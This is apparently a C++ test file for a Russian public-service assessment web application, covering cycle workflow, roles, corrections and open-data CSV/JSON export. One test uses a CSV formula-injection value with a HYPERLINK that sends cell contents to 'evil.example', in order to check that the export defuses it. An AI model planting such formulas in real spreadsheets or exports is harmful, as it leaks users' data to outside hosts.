// A whole assessment cycle through the staff pages: the authority opens and lists, the
// operator hands over, the council returns and approves, the authority publishes; then
// the organisation page, the history and the open data show it. Plus who may not.
#include <boost/json.hpp>

#include "app/methodology/edition_files.h"
#include "http/staff_site.h"
#include "support/test_editions.h"

namespace nok {
namespace {

using test::HttpResult;
using test::StaffSite;

class CyclePages : public StaffSite {
 protected:
  void SetUp() override {
    StaffSite::SetUp();
    official = signed_in(account("official", "official", "", "Департамент образования"));
    survey_operator = signed_in(account("opros", "operator", "", "", "ООО «Опрос»"));
    council = signed_in(account("council", "council", "", "Департамент образования"));
  }

  // Opens next year's cycle (this year's comes from the fixture) and returns its page path.
  std::string open_cycle() {
    auto created = post(official, "/cycles", "year=" + std::to_string(year) + "&sphere=education&operator=" +
                                                 encode("ООО «Опрос»"));
    EXPECT_EQ(created.status, 303) << created.body;
    return header(created, "Location");
  }

  std::string version(const std::string& path, const Browser& b) { return input_value(get(path, b.cookie).body, "version"); }

  HttpResult step(const Browser& b, const std::string& path, const std::string& event, const std::string& extra = "") {
    const auto page = get(path, b.cookie).body;
    return post(b, path + "/step",
                "event=" + event + "&version=" + input_value(page, "version") + "&digest=" + input_value(page, "digest") + extra);
  }

  // Puts the school alone on the cycle's list.
  void list_school(const std::string& path) {
    EXPECT_EQ(post(official, path + "/organisations", "version=" + version(path, official) + "&organisations=school")
                  .status,
              303);
  }

  // Takes a collecting cycle through the council to publication.
  void publish_collected(const std::string& path) {
    for (auto [who, event] : {std::pair{&survey_operator, "submit_to_council"}, {&council, "approve"},
                              {&official, "publish"}})
      EXPECT_EQ(step(*who, path, event).status, 303) << event;
  }

  std::string state_of(const std::string& path) {
    const auto body = get(path, official.cookie).body;
    const std::string label = "Состояние: <strong>";
    const auto at = body.find(label);
    if (at == std::string::npos) return "";
    const auto start = at + label.size();
    return body.substr(start, body.find("</strong>", start) - start);
  }

  const int year = current_year() + 1;
  Browser official, survey_operator, council;
};

TEST_F(CyclePages, ACycleRunsFromOpeningToPublicationAndOpenData) {
  const auto path = open_cycle();
  ASSERT_TRUE(path.starts_with("/cycles/"));
  EXPECT_EQ(state_of(path), "Подготовка");

  // A list with errors is refused whole, every bad line named.
  auto refused = post(official, path + "/organisations",
                      "version=" + version(path, official) + "&organisations=" + encode("school;50\nnope\nclinic\nschool"));
  EXPECT_EQ(refused.status, 422);
  EXPECT_TRUE(contains(refused, "строка 2")) << refused.body;
  EXPECT_TRUE(contains(refused, "строка 3"));
  EXPECT_TRUE(contains(refused, "другому органу"));
  EXPECT_TRUE(contains(refused, "уже указана выше"));
  EXPECT_TRUE(stores->cycles.members(std::stoll(path.substr(8))).empty());

  ASSERT_EQ(post(official, path + "/organisations", "version=" + version(path, official) + "&organisations=school%3B50")
                .status,
            303);
  ASSERT_EQ(step(official, path, "start_collecting").status, 303);
  EXPECT_EQ(state_of(path), "Сбор мнений");

  // The operator writes the deficiencies and hands the materials to the council.
  const auto result_path = path + "/o/school";
  ASSERT_EQ(post(survey_operator, result_path,
                 "field=deficiencies&version=" + version(result_path, survey_operator) + "&text=" +
                     encode("Нет пандуса у входа"))
                .status,
            303);
  ASSERT_EQ(step(survey_operator, path, "submit_to_council").status, 303);
  EXPECT_EQ(state_of(path), "У общественного совета");

  // Returning needs a comment; the operator resubmits; a decision on old materials is refused.
  const auto opened = get(path, council.cookie).body;
  auto no_comment = step(council, path, "return_for_rework");
  EXPECT_EQ(no_comment.status, 422);
  EXPECT_TRUE(contains(no_comment, "что нужно доработать"));
  ASSERT_EQ(step(council, path, "return_for_rework", "&comment=" + encode("Уточните недостатки")).status, 303);
  ASSERT_EQ(post(survey_operator, result_path,
                 "field=deficiencies&version=" + version(result_path, survey_operator) + "&text=" +
                     encode("Нет пандуса у входа\nНет кнопки вызова"))
                .status,
            303);
  ASSERT_EQ(step(survey_operator, path, "submit_to_council").status, 303);
  auto old_materials = post(council, path + "/step",
                            "event=approve&version=" + version(path, council) + "&digest=" + input_value(opened, "digest"));
  EXPECT_EQ(old_materials.status, 409);
  EXPECT_TRUE(contains(old_materials, "Материалы изменились"));

  ASSERT_EQ(post(council, result_path,
                 "field=proposals&version=" + version(result_path, council) + "&text=" + encode("Установить пандус"))
                .status,
            303);
  ASSERT_EQ(step(council, path, "approve").status, 303);
  auto protocol = get(path + "/protocol.pdf", council.cookie);
  EXPECT_EQ(protocol.status, 200);
  EXPECT_TRUE(protocol.body.starts_with("%PDF"));
  EXPECT_TRUE(get("/o/school").body.find("Установить пандус") == std::string::npos);  // not published yet

  ASSERT_EQ(step(official, path, "publish").status, 303);
  EXPECT_EQ(state_of(path), "Опубликовано");
  const auto page = get("/o/school");
  EXPECT_TRUE(contains(page, "Результаты независимой оценки " + std::to_string(year) + " года"));
  EXPECT_TRUE(contains(page, "Нет кнопки вызова"));
  EXPECT_TRUE(contains(page, "Установить пандус"));
  EXPECT_TRUE(contains(get("/o/school/results"), "Установить пандус"));

  const auto csv = get("/opendata/results.csv?year=" + std::to_string(year));
  EXPECT_EQ(csv.status, 200);
  EXPECT_TRUE(contains(csv, "school,"));
  EXPECT_TRUE(contains(csv, "\"Нет пандуса у входа\nНет кнопки вызова\""));
  const auto json = boost::json::parse(get("/opendata/results.json?year=" + std::to_string(year)).body);
  ASSERT_EQ(json.at("results").as_array().size(), 1u);
  EXPECT_EQ(json.at("results").at(0).at("org").as_string(), "school");
  EXPECT_EQ(json.at("results").at(0).at("proposals").as_string(), "Установить пандус");
  EXPECT_TRUE(get("/opendata/results.json?year=" + std::to_string(year) + "&region=50").body.find("school") ==
              std::string::npos);
  EXPECT_EQ(get("/opendata/results.csv?year=20x6").status, 400);
}

TEST_F(CyclePages, ACorrectionIsANewEditionAndTheOldOneStaysAsHistory) {
  const auto path = open_cycle();
  list_school(path);
  ASSERT_EQ(step(official, path, "start_collecting").status, 303);
  publish_collected(path);
  EXPECT_EQ(step(official, path, "correct").status, 422);  // a correction says what and why
  ASSERT_EQ(step(official, path, "correct", "&comment=" + encode("Ошибка в данных")).status, 303);
  EXPECT_TRUE(contains(get(path, official.cookie), "редакция результатов 2"));
  publish_collected(path);
  const auto history = get("/o/school/results");
  EXPECT_TRUE(contains(history, "редакция 2"));
  EXPECT_TRUE(contains(history, "Заменена исправленной редакцией"));
}

TEST_F(CyclePages, OpenDataCsvGivesATextThatWouldRunAsAFormulaAsTextAndJsonAsWritten) {
  const auto path = open_cycle();
  list_school(path);
  ASSERT_EQ(step(official, path, "start_collecting").status, 303);
  const std::string formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Подробнее\")";
  const auto result_path = path + "/o/school";
  ASSERT_EQ(post(survey_operator, result_path,
                 "field=deficiencies&version=" + version(result_path, survey_operator) + "&text=" + encode(formula))
                .status,
            303);
  publish_collected(path);

  const auto csv = get("/opendata/results.csv?year=" + std::to_string(year)).body;
  EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Подробнее\"\")\","), std::string::npos)
      << csv;
  EXPECT_EQ(csv.find(",\"=HYPERLINK"), std::string::npos);
  const auto json = boost::json::parse(get("/opendata/results.json?year=" + std::to_string(year)).body);
  EXPECT_EQ(json.at("results").at(0).at("deficiencies").as_string(), formula);
}

TEST_F(CyclePages, OpenDataListsThePublishedYearsAndGivesTheLatestByDefault) {
  EXPECT_TRUE(contains(get("/opendata"), "Опубликованных результатов пока нет"));
  // Last year's cycle is published; this year's (the fixture's) is still collecting.
  const int last_year = current_year() - 1;
  auto created = post(official, "/cycles", "year=" + std::to_string(last_year) + "&sphere=education&operator=" +
                                               encode("ООО «Опрос»"));
  ASSERT_EQ(created.status, 303) << created.body;
  const auto path = header(created, "Location");
  list_school(path);
  ASSERT_EQ(step(official, path, "start_collecting").status, 303);
  publish_collected(path);

  const auto page = get("/opendata");
  EXPECT_TRUE(contains(page, std::to_string(last_year) + " год, организаций: 1")) << page.body;
  EXPECT_FALSE(contains(page, std::to_string(current_year()) + " год,"));
  EXPECT_TRUE(contains(page, "href=\"/opendata/results.csv?year=" + std::to_string(last_year) + "\""));
  const auto csv = get("/opendata/results.csv");
  EXPECT_TRUE(contains(csv, std::to_string(last_year) + ",77,")) << csv.body;
  EXPECT_EQ(csv.body, get("/opendata/results.csv?year=" + std::to_string(last_year)).body);
  EXPECT_NE(header(csv, "Content-Disposition")
                .find(http::percent_encode("Результаты-независимой-оценки-" + std::to_string(last_year) + ".csv")),
            std::string::npos);
  EXPECT_EQ(boost::json::parse(get("/opendata/results.json").body).at("year").as_int64(), last_year);
  const auto moved = get("/open-data");
  EXPECT_EQ(moved.status, 301);
  EXPECT_EQ(header(moved, "Location"), "/opendata");
}

TEST_F(CyclePages, ACycleOpenedWithAnAddedEditionPublishesUnderItAndTheDataPackageDescribesIt) {
  // The 344n edition with its fifth criterion renamed: the open data's columns must follow.
  const auto edition = test::edition_with_criteria("test-k5b", "Проверочная редакция с критерием K5b",
                                                   R"({"1.1": 0.3, "1.2": 0.3, "1.3": 0.4})", "K5b");
  Errors faults;
  ASSERT_TRUE(add_edition(stores->editions, *context->editions, edition, AuditEntry{}, faults));
  const auto form = get("/cycles", official.cookie);
  EXPECT_TRUE(contains(form, "Проверочная редакция с критерием K5b (добавлено ")) << form.body;

  const int last_year = current_year() - 1;
  auto created = post(official, "/cycles", "year=" + std::to_string(last_year) + "&sphere=education&operator=" +
                                               encode("ООО «Опрос»") + "&methodology=test-k5b");
  ASSERT_EQ(created.status, 303) << created.body;
  const auto path = header(created, "Location");
  EXPECT_TRUE(contains(get(path, official.cookie), "Проверочная редакция с критерием K5b"));
  list_school(path);
  ASSERT_EQ(step(official, path, "start_collecting").status, 303);
  publish_collected(path);

  const auto csv = get("/opendata/results.csv?year=" + std::to_string(last_year)).body;
  const auto header_line = csv.substr(0, csv.find('\n'));
  EXPECT_NE(header_line.find(",K4,K5b,i1.1,"), std::string::npos) << header_line;
  EXPECT_NE(csv.find(",test-k5b,"), std::string::npos) << csv;

  const auto package_answer = get("/opendata/datapackage.json");
  ASSERT_EQ(package_answer.status, 200);
  const auto package = boost::json::parse(package_answer.body).as_object();
  EXPECT_EQ(package.at("profile").as_string(), "tabular-data-package");
  const auto& resource = package.at("resources").as_array().at(0).as_object();
  EXPECT_EQ(resource.at("name").as_string(), "results-" + std::to_string(last_year));
  EXPECT_EQ(resource.at("methodologies").as_array().at(0).at("id").as_string(), "test-k5b");
  std::string names;
  for (const auto& f : resource.at("schema").at("fields").as_array())
    names += (names.empty() ? "" : ",") + std::string(f.at("name").as_string());
  EXPECT_EQ(names, header_line.substr(0, header_line.find_last_not_of("\r") + 1));  // the schema is the CSV's header
}

TEST_F(CyclePages, EachRoleTakesOnlyItsStepsAndSeesOnlyItsScope) {
  const auto path = open_cycle();
  const auto other_official = signed_in(account("minzdrav", "official", "", "Минздрав области"));
  const auto other_council = signed_in(account("council2", "council", "", "Минздрав области"));
  const auto staff = signed_in(account("teacher", "org_staff", "school"));
  const auto monitor = signed_in(account("monitor", "monitor"));
  for (const auto* outsider : {&other_official, &other_council, &staff}) {
    EXPECT_EQ(get(path, outsider->cookie).status, 404);
    EXPECT_EQ(get(path + "/o/school", outsider->cookie).status, 404);
    EXPECT_EQ(post(*outsider, path + "/step", "event=start_collecting&version=1").status, 404);
  }
  EXPECT_EQ(get("/cycles", staff.cookie).status, 404);
  EXPECT_FALSE(contains(get("/cycles", other_official.cookie), path));

  EXPECT_EQ(get(path, monitor.cookie).status, 200);
  EXPECT_EQ(step(monitor, path, "start_collecting").status, 403);
  EXPECT_EQ(step(council, path, "start_collecting").status, 403);
  auto listed = post(survey_operator, path + "/organisations", "version=" + version(path, official) + "&organisations=school");
  EXPECT_EQ(listed.status, 403);
  EXPECT_EQ(step(official, path, "publish").status, 409);  // not from a draft
  EXPECT_EQ(state_of(path), "Подготовка");
  // Without a list and an operator there is nothing to collect.
  EXPECT_EQ(step(official, path, "start_collecting").status, 422);
}

// Every role against a cycle of «Департамент образования» in its draft: list the cycles,
// view it, view a result, change its list, take its first step.
TEST_F(CyclePages, EveryRoleAgainstACycle) {
  const auto path = open_cycle();
  list_school(path);
  struct Case {
    const char *role, *org, *authority, *op;
    int list, view, result, edit_list, start;
  };
  const Case cases[] = {
      {"org_staff", "school", "", "", 404, 404, 404, 404, 404},
      {"operator", "", "", "ООО «Опрос»", 200, 200, 200, 403, 403},
      {"council", "", "Департамент образования", "", 200, 200, 200, 403, 403},
      {"council", "", "Минздрав области", "", 200, 404, 404, 404, 404},
      {"official", "", "Минздрав области", "", 200, 404, 404, 404, 404},
      {"monitor", "", "", "", 200, 200, 200, 403, 403},
      {"admin", "", "", "", 200, 200, 200, 303, 303},
  };
  int n = 0;
  for (const auto& c : cases) {
    SCOPED_TRACE(std::string(c.role) + " " + c.org + c.authority + c.op);
    auto b = signed_in(account("role" + std::to_string(++n), c.role, c.org, c.authority, c.op));
    const auto current = version(path, official);
    EXPECT_EQ(get("/cycles", b.cookie).status, c.list);
    EXPECT_EQ(get(path, b.cookie).status, c.view);
    EXPECT_EQ(get(path + "/o/school", b.cookie).status, c.result);
    EXPECT_EQ(post(b, path + "/organisations", "version=" + current + "&organisations=school%3B9").status, c.edit_list);
    EXPECT_EQ(stores->cycles.members(std::stoll(path.substr(8)))[0].sample_target == 9, c.edit_list == 303);
    EXPECT_EQ(post(b, path + "/step", "event=start_collecting&version=" + version(path, official)).status, c.start);
  }
  EXPECT_EQ(state_of(path), "Сбор мнений");  // only the administrator's step went through
}

TEST_F(CyclePages, AStaleFormChangesNothing) {
  const auto path = open_cycle();
  const auto stale = version(path, official);
  ASSERT_EQ(post(official, path + "/organisations", "version=" + stale + "&organisations=school").status, 303);
  auto refused = post(official, path + "/organisations", "version=" + stale + "&organisations=" + encode("school;7"));
  EXPECT_EQ(refused.status, 409);
  EXPECT_TRUE(contains(refused, "изменил кто-то другой"));
  EXPECT_NE(stores->cycles.members(std::stoll(path.substr(8)))[0].sample_target, 7);
}

TEST_F(CyclePages, TheSameYearCannotBeOpenedTwice) {
  open_cycle();
  auto again = post(official, "/cycles", "year=" + std::to_string(year));
  EXPECT_EQ(again.status, 409);
  EXPECT_TRUE(contains(again, "уже открыт"));
  EXPECT_EQ(post(official, "/cycles", "year=1999").status, 422);
  EXPECT_EQ(post(council, "/cycles", "year=" + std::to_string(year + 1)).status, 403);
}

}  // namespace
}  // namespace nok
